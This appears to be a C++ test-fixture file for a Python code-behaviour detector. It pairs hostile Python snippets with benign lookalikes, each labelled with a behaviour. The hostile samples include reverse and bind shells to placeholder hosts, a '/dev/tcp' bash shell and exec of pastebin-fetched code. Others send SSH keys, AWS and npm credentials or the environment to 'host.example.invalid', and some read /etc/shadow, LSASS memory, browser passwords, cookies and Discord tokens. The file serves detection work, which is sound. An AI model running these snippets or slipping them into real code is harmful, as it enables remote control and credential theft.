#include "behaviour_examples.h"

namespace pyverdict::behaviour {
namespace {

constexpr Example kControl[] = {
    {"reverse-shell", "odd-port",
     R"(
import os, pty, socket
s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
)",
     R"(
import socket
s = socket.socket()
s.connect(("192.0.2.7", 80))
s.sendall(b"hello")
)"},
    {"reverse-shell", "", "import os\nos.system('bash -i >& /dev/tcp/192.0.2.7/443 0>&1')\n",
     "import os\nos.system('bash -i script.sh > log.txt')\n"},
    {"remote-commands", "command-output-sent beacon",
     R"(
import socket, subprocess
s = socket.socket()
s.connect(("192.0.2.7", 443))
while True:
    command = s.recv(1024).decode()
    s.send(subprocess.check_output(command, shell=True))
)",
     R"(
import socket
s = socket.socket()
s.connect(("192.0.2.7", 443))
while True:
    print(s.recv(1024).decode())
)"},
    {"command-output-sent", "",
     R"(
import requests, subprocess
requests.post("http://host.example.invalid/in", data=subprocess.check_output(["uptime"]))
)",
     R"(
import subprocess
print(subprocess.check_output(["uptime"]))
)"},
    {"bind-shell", "remote-commands",
     R"(
import socket, subprocess
s = socket.socket()
s.bind(("0.0.0.0", 8081))
s.listen(1)
c, a = s.accept()
subprocess.run(c.recv(100).decode(), shell=True)
)",
     R"(
import socket
s = socket.socket()
s.bind(("0.0.0.0", 8081))
s.listen(1)
c, a = s.accept()
c.sendall(b"hello")
)"},
    {"beacon", "remote-commands",
     R"(
import os, requests, time
while True:
    os.system(requests.get("http://host.example.invalid/next").text)
    time.sleep(60)
)",
     R"(
import requests, time
while True:
    print(requests.get("http://host.example.invalid/health").status_code)
    time.sleep(60)
)"},
    {"reconnect-loop", "",
     "import socket, time\nwhile True:\n    socket.create_connection(('192.0.2.7', 80))\n    time.sleep(5)\n",
     "import socket\nsocket.create_connection(('192.0.2.7', 80))\n"},
    {"chat-commands", "",
     R"(
import discord, os
bot = discord.Client()
@bot.event
async def on_message(message):
    os.system(message.content)
)",
     R"(
import discord
bot = discord.Client()
@bot.event
async def on_message(message):
    await message.channel.send("pong")
)"},
    {"dead-drop", "fetched-code-executed",
     "import requests\nexec(requests.get('https://pastebin.com/raw/abcdefgh').text)\n",
     "import requests\nprint(requests.get('https://raw.githubusercontent.com/a/b/version').text)\n"},
    {"callback-service", "", "import requests\nrequests.get('http://abc.oast.fun/')\n",
     "import requests\nrequests.get('http://host.example.invalid/')\n"},
    {"dns-exfiltration", "",
     "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.invalid')\n",
     "import socket\nsocket.gethostbyname('host.example.invalid')\n"},
    {"tunnel", "", "import os\nos.system('ssh -R 8080:localhost:80 user@192.0.2.7')\n",
     "import os\nos.system('ssh user@192.0.2.7 uptime')\n"},
    {"raw-address", "", "import requests\nrequests.get('http://203.0.113.9/a')\n",
     "import requests\nrequests.get('http://192.168.1.9/a')\n"},
    {"odd-port", "", "import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\n",
     "import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 443))\n"},
    {"tls-unverified", "", "import requests\nrequests.get('https://host.example.invalid', verify=False)\n",
     "import requests\nrequests.get('https://host.example.invalid')\n"},
    {"message-channel-commands", "",
     R"(
import os
import paho.mqtt.client as mqtt
def on_message(client, data, message):
    os.system(message.payload.decode())
client = mqtt.Client()
client.on_message = on_message
)",
     R"(
import paho.mqtt.client as mqtt
def on_message(client, data, message):
    print(message.payload)
client = mqtt.Client()
client.on_message = on_message
)"},
    {"remote-file-server", "", "import os\nos.system('python3 -m http.server 8000')\n",
     "import os\nos.system('python3 -m venv x')\n"},
};

constexpr Example kCredentials[] = {
    {"metadata-token", "",
     R"(
import urllib.request
request = urllib.request.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})
print(urllib.request.urlopen(request).read())
)",
     R"(
import google.auth
credentials, project = google.auth.default()
)"},
    {"metadata-query", "",
     "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/instance-id')\n",
     "import requests\nrequests.get('http://host.example.invalid/instance-id')\n"},
    {"cloud-credentials", "credential-sent",
     R"(
import os, requests
keys = open(os.path.expanduser("~/.aws/credentials")).read()
requests.post("http://host.example.invalid/in", data={"k": keys})
)",
     R"(
from google.oauth2 import service_account
credentials = service_account.Credentials.from_service_account_file(path)
)"},
    {"ssh-keys", "credential-sent",
     R"(
import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("http://host.example.invalid/in", data={"k": key})
)",
     R"(
import paramiko
key = paramiko.RSAKey.from_private_key_file(path)
)"},
    {"developer-tokens", "credential-sent",
     R"(
import os, requests
token = open(os.path.expanduser("~/.npmrc")).read()
requests.post("http://host.example.invalid/in", data={"k": token})
)",
     "import keyring\nkeyring.get_password('service', 'name')\n"},
    {"environment-sent", "collected-data-sent",
     R"(
import os, requests
requests.post("http://host.example.invalid/in", json=dict(os.environ))
)",
     R"(
import os, requests
requests.get(os.environ.get("SERVICE_URL"))
)"},
    {"environment-sent", "",
     R"(
import os, urllib.parse, urllib.request
def report():
    data = urllib.parse.urlencode(dict(os.environ)).encode("utf-8")
    request = urllib.request.Request("http://host.example.invalid/in", data=data)
    urllib.request.urlopen(request)
)",
     R"(
import os, urllib.parse, urllib.request
data = urllib.parse.urlencode({"region": os.environ["REGION"]}).encode("utf-8")
urllib.request.urlopen(urllib.request.Request("http://host.example.invalid/in", data=data))
)"},
    {"credential-sent", "",
     R"(
import os, requests
class Settings(dict):
    def __init__(self):
        if os.environ.get("AWS_SECRET_ACCESS_KEY") is not None:
            self.secret = os.environ.get("AWS_SECRET_ACCESS_KEY")
        else:
            self.secret = "empty"
        self.report()
    def report(self):
        requests.get("http://host.example.invalid/" + self.secret)
)",
     R"(
import os, requests
secret = os.environ.get("AWS_SECRET_ACCESS_KEY")
requests.get("http://host.example.invalid/status", auth=sign(secret))
)"},
    {"environment-sent", "collected-data-sent",
     "import os\nos.system('env | curl -d @- http://host.example.invalid/in')\n",
     "import os\nos.system('env | sort')\n"},
    {"shadow-file", "", "print(open('/etc/shadow').read())\n", "print(open('/etc/hostname').read())\n"},
    {"passwd-file", "", "print(open('/etc/passwd').read())\n", "import pwd\npwd.getpwnam('daemon')\n"},
    {"process-memory", "", "memory = open(f'/proc/{pid}/mem', 'rb')\n",
     "status = open('/proc/self/status')\n"},
    {"windows-secrets", "",
     "import os\nos.system(r'rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 4 x.dmp full')\n",
     "import os\nos.system('rundll32 shell32.dll')\n"},
    {"browser-passwords", "",
     R"(
import json, os, sqlite3
base = os.path.expanduser("~/.config/google-chrome/")
key = json.load(open(base + "Local State"))["os_crypt"]["encrypted_key"]
rows = sqlite3.connect(base + "Default/Login Data").execute("select 1")
)",
     R"(
import sqlite3
rows = sqlite3.connect("places.sqlite").execute("select url from moz_places")
)"},
    {"browser-cookies", "",
     R"(
import os, sqlite3
sqlite3.connect(os.path.expanduser("~/.mozilla/firefox/x.default/cookies.sqlite"))
)",
     "import http.cookiejar\njar = http.cookiejar.CookieJar()\n"},
    {"chat-tokens", "",
     R"(
import os, re
for name in os.listdir(os.path.expanduser("~/.config/discord/Local Storage/leveldb")):
    re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(name).read())
)",
     "import discord\nbot = discord.Client()\nbot.run(config['token'])\n"},
    {"wallets", "",
     "import os\nos.listdir(os.path.expanduser('~/Extensions/nkbihfbeogaeaoehlefnkodbefgpgknn'))\n",
     "balance = wallet.balance()\n"},
    {"password-manager", "", "import os\nos.system('security find-generic-password -wa Chrome')\n",
     "import keyring\nkeyring.get_password('a', 'b')\n"},
    {"wifi-keys", "", "import os\nos.system('netsh wlan show profile name=home key=clear')\n",
     "import os\nos.system('netsh interface show interface')\n"},
    {"keylogger", "",
     R"(
from pynput import keyboard
def on_press(key):
    with open("keys.txt", "a") as log:
        log.write(str(key))
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
)",
     R"(
import keyboard
keyboard.add_hotkey("ctrl+q", quit)
)"},
    {"shell-history", "", "import os\nos.system('cat ~/.bash_history')\n",
     "import os\nos.system('cat ~/notes.txt')\n"},
    {"packet-sniffing", "", "from scapy.all import sniff\nsniff(count=10)\n",
     "from scapy.all import IP\nIP()\n"},
    {"kubernetes-token", "",
     R"(
import requests
token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
requests.get("https://192.0.2.1/healthz", headers={"X-Token": token})
)",
     "import kubernetes\nkubernetes.config.load_incluster_config()\n"},
    {"secrets-search", "", "import os\nos.system(\"grep -r password= /home\")\n",
     "import os\nos.system('grep -r todo src')\n"},
};

}  // namespace

std::span<const Example> control_examples() { return kControl; }
std::span<const Example> credential_examples() { return kCredentials; }

}  // namespace pyverdict::behaviour
